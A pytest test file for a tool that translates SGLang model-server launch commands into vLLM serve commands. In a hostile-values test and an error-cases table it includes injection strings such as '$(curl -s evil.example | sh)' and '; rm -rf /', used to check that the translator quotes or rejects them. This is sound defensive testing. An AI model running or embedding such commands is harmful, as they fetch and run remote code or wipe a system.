"""The SGLang-to-vLLM translator: real launch commands, both multi-node modes, errors, and every vLLM flag it
writes checked against `vllm serve --help=all` as captured by tools/capture/vllm/serve_flags.sh."""

from __future__ import annotations

import re
import shlex

import pytest

from sparktui.core.launch.lexer import Takes
from sparktui.core.launch.sglang_to_vllm import (
    Dropped,
    Mode,
    TranslateError,
    Translation,
    _Flag,
    _Names,
    _table,
    sglang_to_vllm,
)

from .. import helptext

LAUNCH = "python3 -m sglang.launch_server"
UNKNOWN = "no vLLM equivalent known to sparktui"
RAY = "Ray forms the cluster; vLLM runs only on the head"


def vllm_options() -> dict[str, frozenset[str]]:
    """Every option of `vllm serve`, with its choices where the help lists them (else empty)."""
    return {flag: option.choices for flag, option in helptext.options("vllm").items()}


def vllm_flags(t: Translation) -> list[str]:
    return [word.partition("=")[0] for word in t.argv[3:] if word.startswith("--")]


def flags_in(text: str) -> set[str]:
    return set(re.findall(r"(?<![\w-])--[a-z0-9][a-z0-9-]*[a-z0-9]", text))


def dropped(t: Translation) -> dict[str, Dropped]:
    return {d.flag: d for d in t.dropped}


def assert_known_to_vllm(t: Translation) -> None:
    for flag in vllm_flags(t):
        assert flag in vllm_options(), flag
    for d in t.dropped:
        assert flags_in(d.reason) <= vllm_options().keys(), d


# --- the captured help ------------------------------------------------------------------------------------------


def test_the_captured_help_is_whole() -> None:
    options = vllm_options()
    assert len(options) > 300
    assert {"--tensor-parallel-size", "--no-enable-prefix-caching", "--headless", "--master-port"} <= options.keys()
    assert options["--distributed-executor-backend"] == {"external_launcher", "mp", "ray", "uni"}
    assert "ray" in options["--distributed-executor-backend"]
    assert {"auto", "hf"} <= options["--tokenizer-mode"]


# --- the commands in the reference ------------------------------------------------------------------------------


def test_the_nvidia_single_node_command() -> None:
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path nvidia/Llama-3.1-8B-Instruct-FP4 --tp 1 --attention-backend flashinfer "
        "--mem-fraction-static 0.75 --quantization modelopt_fp4",
        mode="native",
    )
    assert t.argv == (
        "vllm",
        "serve",
        "nvidia/Llama-3.1-8B-Instruct-FP4",
        "--tensor-parallel-size",
        "1",
        "--gpu-memory-utilization",
        "0.75",
        "--quantization",
        "modelopt_fp4",
    )
    assert t.env == ()
    assert [(d.flag, d.value) for d in t.dropped] == [("--attention-backend", "flashinfer")]
    assert "FLASHINFER" in t.dropped[0].reason
    assert any("--gpu-memory-utilization is close to --mem-fraction-static" in n for n in t.notes)
    assert not any("quantization" in n for n in t.notes)
    assert_known_to_vllm(t)


def test_the_single_node_command_for_ray_adds_the_ray_backend() -> None:
    t = sglang_to_vllm(f"{LAUNCH} --model-path m --tp 1")
    assert t.argv[-2:] == ("--distributed-executor-backend", "ray")


SPARKRUN = (
    "NCCL_CUMEM_ENABLE=0 python3 -m sglang.launch_server --model-path Qwen/Qwen3-30B-A3B --tp-size 2 "
    "--dist-init-addr 192.168.100.10:25000 --nnodes 2 --node-rank {rank} --host 0.0.0.0 --port 30000"
)


def test_sparkrun_multi_node_on_ray() -> None:
    head = sglang_to_vllm(SPARKRUN.format(rank=0), mode="ray")
    assert head.command == (
        "vllm serve Qwen/Qwen3-30B-A3B --tensor-parallel-size 2 --host 0.0.0.0 --port 30000 "
        "--distributed-executor-backend ray"
    )
    assert head.env == (("NCCL_CUMEM_ENABLE", "0"),)
    assert [(d.flag, d.value, d.reason) for d in head.dropped] == [
        ("--dist-init-addr", "192.168.100.10:25000", RAY),
        ("--nnodes", "2", RAY),
        ("--node-rank", "0", RAY),
    ]
    assert head.notes == ()
    worker = sglang_to_vllm(SPARKRUN.format(rank=1), mode="ray")
    assert worker.argv == head.argv
    assert any("node rank 1" in n and "only the head runs vllm serve" in n for n in worker.notes)
    assert_known_to_vllm(worker)


def test_sparkrun_multi_node_native() -> None:
    head = sglang_to_vllm(SPARKRUN.format(rank=0), mode="native")
    assert head.command == (
        "vllm serve Qwen/Qwen3-30B-A3B --tensor-parallel-size 2 --master-addr 192.168.100.10 --master-port 25000 "
        "--nnodes 2 --node-rank 0 --host 0.0.0.0 --port 30000"
    )
    assert head.dropped == ()
    worker = sglang_to_vllm(SPARKRUN.format(rank=1), mode="native")
    assert worker.argv == (*head.argv[:12], "1", *head.argv[13:], "--headless")
    assert worker.env == (("NCCL_CUMEM_ENABLE", "0"),)
    assert_known_to_vllm(worker)


# --- realistic commands of our own ------------------------------------------------------------------------------


def test_qwen3_235b_fp8_on_two_sparks() -> None:
    command = """\
NCCL_SOCKET_IFNAME=enp1s0f1np1 GLOO_SOCKET_IFNAME=enp1s0f1np1 NCCL_CUMEM_ENABLE=0 \\
python3 -m sglang.launch_server \\
  --model-path Qwen/Qwen3-235B-A22B-Instruct-2507-FP8 \\
  --tp-size 2 --ep-size 2 \\
  --context-length 32768 --mem-fraction-static 0.8 \\
  --trust-remote-code --host 0.0.0.0 --port 30000 \\
  --reasoning-parser qwen3 --tool-call-parser qwen25 \\
  --enable-metrics --log-level info \\
  --dist-init-addr 192.168.100.10:25000 --nnodes 2 --node-rank 0
"""
    t = sglang_to_vllm(command)
    assert t.command == (
        "vllm serve Qwen/Qwen3-235B-A22B-Instruct-2507-FP8 --tensor-parallel-size 2 --enable-expert-parallel "
        "--max-model-len 32768 --gpu-memory-utilization 0.8 --trust-remote-code --host 0.0.0.0 --port 30000 "
        "--reasoning-parser qwen3 --tool-call-parser hermes --enable-auto-tool-choice "
        "--distributed-executor-backend ray"
    )
    assert t.env == (
        ("NCCL_SOCKET_IFNAME", "enp1s0f1np1"),
        ("GLOO_SOCKET_IFNAME", "enp1s0f1np1"),
        ("NCCL_CUMEM_ENABLE", "0"),
    )
    gone = dropped(t)
    assert list(gone) == ["--enable-metrics", "--log-level", "--dist-init-addr", "--nnodes", "--node-rank"]
    assert gone["--enable-metrics"].value is None and "/metrics" in gone["--enable-metrics"].reason
    assert "VLLM_LOGGING_LEVEL" in gone["--log-level"].reason
    assert any("qwen25" in n and "'hermes'" in n for n in t.notes)
    assert any("expert-parallel size" in n for n in t.notes)
    assert_known_to_vllm(t)


def test_deepseek_with_remote_code_reasoning_and_dp_attention() -> None:
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path deepseek-ai/DeepSeek-R1-0528 --trust-remote-code --tp 8 --dp 8 "
        "--enable-dp-attention --reasoning-parser deepseek-r1 --tool-call-parser deepseekv3 "
        "--speculative-algorithm EAGLE --speculative-num-steps 3 --speculative-eagle-topk 1 "
        "--speculative-num-draft-tokens 4 --kv-cache-dtype fp8_e4m3 --chunked-prefill-size 8192 --port 30000 "
        "--host 0.0.0.0",
        mode="native",
    )
    assert t.argv == (
        "vllm",
        "serve",
        "deepseek-ai/DeepSeek-R1-0528",
        "--trust-remote-code",
        "--tensor-parallel-size",
        "8",
        "--reasoning-parser",
        "deepseek_r1",
        "--tool-call-parser",
        "deepseek_v3",
        "--enable-auto-tool-choice",
        "--kv-cache-dtype",
        "fp8_e4m3",
        "--max-num-batched-tokens",
        "8192",
        "--port",
        "30000",
        "--host",
        "0.0.0.0",
    )
    gone = dropped(t)
    assert gone["--dp"].value == "8" and "data-parallel attention" in gone["--dp"].reason
    assert gone["--enable-dp-attention"].reason == gone["--dp"].reason
    assert [d.value for d in t.dropped if d.flag.startswith("--speculative-")] == ["EAGLE", "3", "1", "4"]
    assert all("--speculative-config" in d.reason for d in t.dropped if d.flag.startswith("--speculative-"))
    assert any("deepseek-r1" in n and "'deepseek_r1'" in n for n in t.notes)
    assert any("--max-num-batched-tokens caps" in n for n in t.notes)
    assert_known_to_vllm(t)


def test_flag_equals_value_forms_and_sglang_serve() -> None:
    t = sglang_to_vllm(
        "sglang serve --model-path=meta-llama/Llama-3.1-8B-Instruct --tp-size=2 --port=30001 --host=127.0.0.1 "
        "--kv-cache-dtype=bf16 --dtype=bfloat16 --max-running-requests=64 --random-seed=42 --disable-radix-cache "
        "--context-length=131072 --enable-torch-compile --cuda-graph-max-bs=32 --dist-init-addr=[fd00::10]:25000",
        mode="native",
    )
    assert t.command == (
        "vllm serve meta-llama/Llama-3.1-8B-Instruct --tensor-parallel-size 2 --port 30001 --host 127.0.0.1 "
        "--kv-cache-dtype bfloat16 --dtype bfloat16 --max-num-seqs 64 --seed 42 --no-enable-prefix-caching "
        "--max-model-len 131072 --max-cudagraph-capture-size 32 --master-addr fd00::10 --master-port 25000"
    )
    assert list(dropped(t)) == ["--enable-torch-compile"]
    assert_known_to_vllm(t)


def test_sglang_serve_takes_the_model_as_its_first_argument() -> None:
    t = sglang_to_vllm("/opt/venv/bin/sglang serve Qwen/Qwen3-8B --port 30000 --host 0.0.0.0", mode="native")
    assert t.command == "vllm serve Qwen/Qwen3-8B --port 30000 --host 0.0.0.0"
    assert t.notes == ()


def test_line_continuations_exec_env_and_python_switches() -> None:
    command = (
        "exec env HF_HOME=/models 'NCCL_DEBUG=INFO' \\\r\n"
        "  /usr/bin/python3.12 -u -m sglang.launch_server \\  \n"
        "  --model-path /models/Qwen3-8B \\\n"
        "\t--tp 1 \\\n"
        "  --chunked-prefill-size -1 --host 0.0.0.0 --port 30000\n"
    )
    t = sglang_to_vllm(command, mode="native")
    assert t.command == (
        "vllm serve /models/Qwen3-8B --tensor-parallel-size 1 --no-enable-chunked-prefill --host 0.0.0.0 --port 30000"
    )
    assert t.env == (("HF_HOME", "/models"), ("NCCL_DEBUG", "INFO"))


def test_native_worker_with_an_ipv6_head() -> None:
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path m --tp 2 --nnodes 2 --node-rank 1 --dist-init-addr [fe80::1%enp1s0f1np1]:25000",
        mode="native",
    )
    assert t.argv[3:] == (
        "--tensor-parallel-size",
        "2",
        "--nnodes",
        "2",
        "--node-rank",
        "1",
        "--master-addr",
        "fe80::1%enp1s0f1np1",
        "--master-port",
        "25000",
        "--headless",
    )


HOSTILE = ["x; rm -rf / #", "$(curl -s evil.example | sh)", "`id`", 'it\'s "quoted"', "a\nb", "*", "~root", ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_come_out_quoted_and_round_trip(value: str) -> None:
    model = "/models/my model (v2)"
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path {shlex.quote(model)} --served-model-name {shlex.quote(value)}", mode="native"
    )
    assert t.argv == ("vllm", "serve", model, "--served-model-name", value)
    assert shlex.split(t.command) == list(t.argv)
    assert t.command.endswith(f" --served-model-name {shlex.quote(value)}")


def test_a_value_that_looks_like_a_flag_stays_a_value() -> None:
    t = sglang_to_vllm(f"{LAUNCH} --model-path m --served-model-name='--port 1' --api-key=-secret", mode="native")
    assert t.argv[3:] == ("--served-model-name=--port 1", "--api-key=-secret")
    assert shlex.split(t.command) == list(t.argv)


def test_a_dollar_in_a_value_is_flagged() -> None:
    t = sglang_to_vllm(f"HOST_IP=$MY_IP {LAUNCH} --model-path m --host $HEAD_IP --port 30000")
    assert t.argv[3:5] == ("--host", "$HEAD_IP")
    assert "'$HEAD_IP'" in t.command
    assert any("'$HEAD_IP' holds $" in n for n in t.notes)
    assert any("'$MY_IP' holds $" in n for n in t.notes)


def test_unknown_flags_are_dropped_with_their_values() -> None:
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path m --enable-hierarchical-cache --hicache-ratio 2 --some-list a b c "
        "--disaggregation-mode prefill --tp 2",
        mode="native",
    )
    assert t.argv[3:] == ("--tensor-parallel-size", "2")
    assert [(d.flag, d.value) for d in t.dropped] == [
        ("--enable-hierarchical-cache", None),
        ("--hicache-ratio", "2"),
        ("--some-list", "a b c"),
        ("--disaggregation-mode", "prefill"),
    ]
    assert [d.reason for d in t.dropped[:3]] == [UNKNOWN] * 3
    assert "--kv-transfer-config" in t.dropped[3].reason


def test_values_with_other_names() -> None:
    t = sglang_to_vllm(
        f"{LAUNCH} --model-path m --quantization modelopt_fp8 --tokenizer-mode slow --schedule-policy lpm "
        "--kv-cache-dtype fp4_mx_block16 --model-impl sglang --log-level-http warning",
        mode="native",
    )
    assert t.argv[3:] == (
        "--quantization",
        "modelopt",
        "--model-impl",
        "vllm",
        "--uvicorn-log-level",
        "warning",
    )
    assert {d.flag: d.reason for d in t.dropped} == {
        "--tokenizer-mode": "vLLM has no tokenizer mode 'slow'",
        "--schedule-policy": "vLLM has no scheduling policy 'lpm'",
        "--kv-cache-dtype": "vLLM has no KV cache type 'fp4_mx_block16'",
    }
    assert any("modelopt_fp8" in n and "'modelopt'" in n for n in t.notes)


def test_an_unknown_quantization_is_passed_on_with_a_note() -> None:
    t = sglang_to_vllm(f"{LAUNCH} --model-path m --quantization w8a8_fp8")
    assert t.argv[3:5] == ("--quantization", "w8a8_fp8")
    assert any("'w8a8_fp8' is passed as is" in n and "checkpoint" in n for n in t.notes)


def test_expert_parallel_is_written_once_and_size_one_is_none() -> None:
    t = sglang_to_vllm(f"{LAUNCH} --model-path m --enable-ep-moe --ep 4", mode="native")
    assert t.argv[3:] == ("--enable-expert-parallel",)
    t = sglang_to_vllm(f"{LAUNCH} --model-path m --ep-size 1", mode="native")
    assert t.argv[3:] == ()
    assert t.dropped[0].value == "1"


def test_chat_template_name_or_file() -> None:
    named = sglang_to_vllm(f"{LAUNCH} --model-path m --chat-template chatml")
    assert any("built-in template name" in n for n in named.notes)
    filed = sglang_to_vllm(f"{LAUNCH} --model-path m --chat-template /t/tool_chat.jinja")
    assert not any("built-in template name" in n for n in filed.notes)


def test_defaults_that_differ_are_noted() -> None:
    t = sglang_to_vllm(f"{LAUNCH} --model-path m", mode="native")
    assert t.argv == ("vllm", "serve", "m")
    assert any("127.0.0.1" in n for n in t.notes)
    assert any("30000" in n and "8000" in n for n in t.notes)


# --- errors -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("", "empty command"),
        ("   \n", "empty command"),
        ("vllm serve Qwen/Qwen3-8B --tensor-parallel-size 2", "already a vLLM command"),
        (
            "docker run --gpus all lmsysorg/sglang python3 -m sglang.launch_server --model-path m",
            "give the command the container runs",
        ),
        ("python3 -m vllm.entrypoints.openai.api_server --model m", "not an SGLang launch"),
        ("python3 train.py", "not an SGLang launch"),
        ("NCCL_DEBUG=INFO", "no command after the environment"),
        (f"{LAUNCH} --tp 2 --port 30000", "no model"),
        (f"{LAUNCH} --model-path 'unbalanced", "no closing quotation"),
        (f"{LAUNCH} --model-path m\\", "no escaped character"),
        (f"{LAUNCH} --model-path m --tp", "--tp needs a value"),
        (f"{LAUNCH} --model-path m --tp --port 30000", "--tp needs a value"),
        (f"{LAUNCH} --model-path", "--model-path needs a value"),
        (f"{LAUNCH} --model-path=-m", "cannot start with '-'"),
        (f"{LAUNCH} --model-path m '--bad\nflag'", "not a flag: '--bad\\nflag'"),
        (f"{LAUNCH} --model-path m --lora-paths", "--lora-paths needs a value"),
        (f"{LAUNCH} --model-path m --trust-remote-code=true", "is a switch and takes no value"),
        (f"{LAUNCH} --model-path m --trust-remote-code yes", "unexpected argument 'yes' after --trust-remote-code"),
        (f"{LAUNCH} --model-path m --dist-init-addr 10.0.0.1", "wants HOST:PORT"),
        (f"{LAUNCH} --model-path m --dist-init-addr 10.0.0.1:99999", "wants HOST:PORT"),
        (f"{LAUNCH} --model-path m --dist-init-addr fe80::1:25000", "[address]:port"),
        (f"{LAUNCH} --model-path m --node-rank one", "--node-rank wants a whole number"),
        (f"{LAUNCH} --model-path m --nnodes 0", "--nnodes wants a whole number of at least 1"),
        (f"{LAUNCH} --model-path m; rm -rf /", "shell operator ';'"),
        (f"{LAUNCH} --model-path m 2>&1 | tee log", "shell operator '|'"),  # 2>&1 is a redirection, not '&'
        (f"{LAUNCH} --model-path m > /tmp/sglang.log", "redirection '>/tmp/sglang.log'"),
        (f"docker exec -it sglang {LAUNCH} --model-path m", "give the command the container runs"),
        (f"{LAUNCH} --model-path m && echo done", "shell operator '&&'"),
    ],
)
def test_errors_are_one_line(command: str, message: str) -> None:
    with pytest.raises(TranslateError) as caught:
        sglang_to_vllm(command)
    assert message in str(caught.value)
    assert "\n" not in str(caught.value)


# --- every rule against the captured vLLM help ------------------------------------------------------------------

SAMPLE = {"--dist-init-addr": "10.0.0.1:25000", "--nccl-init-addr": "10.0.0.1:25000", "--chat-template": "chatml"}


def every_command() -> list[str]:
    """One command per SGLang flag the table knows (per value, for flags whose values are named)."""
    commands = []
    table = _table()
    parsers = table.values["tool-call-parsers"]
    for flag, rule in [*table.rules.items(), *table.families]:
        if rule.takes is Takes.NOTHING:
            args = [flag]
        elif isinstance(rule, _Flag) and rule.names is not None:
            names = rule.names
            args = [f"{flag} {value}" for value in sorted({*names.same, *names.renamed})]
        elif flag == "--tool-call-parser":
            args = [f"{flag} {value}" for value in sorted({*parsers.same, *parsers.renamed})]
        else:
            args = [f"{flag}{'x' if flag.endswith('-') else ''} {SAMPLE.get(flag, '2')}"]
        commands += [f"{LAUNCH} --model-path m {arg} --node-rank 1" for arg in args]
    return commands


@pytest.mark.parametrize("mode", ["ray", "native"])
def test_every_flag_written_is_in_the_vllm_help(mode: Mode) -> None:
    written: set[str] = set()
    for command in every_command():
        t = sglang_to_vllm(command, mode=mode)
        assert_known_to_vllm(t)
        for note in t.notes:
            assert flags_in(note) <= vllm_options().keys() | _table().rules.keys(), note
        written |= set(vllm_flags(t))
    assert len(written) > 40


def named_values() -> list[tuple[str, _Names]]:
    table = [(rule.to, rule.names) for rule in _table().rules.values() if isinstance(rule, _Flag) and rule.names]
    return [*table, ("--tool-call-parser", _table().values["tool-call-parsers"])]


@pytest.mark.parametrize(("flag", "names"), named_values(), ids=[flag for flag, _ in named_values()])
def test_every_value_written_is_one_vllm_lists(flag: str, names: _Names) -> None:
    """Where the help lists a flag's values, each value written must be among them; a closed list must be listed."""
    written = {*names.same, *names.renamed.values()}
    listed = vllm_options()[flag]
    block = helptext.block("vllm", flag)
    if names.closed:
        assert listed, flag
    if listed:
        assert written <= listed, written - listed
    elif re.search(r'^\s+- "\w+"', block, re.M):
        assert all(f'"{value}"' in block for value in written), block
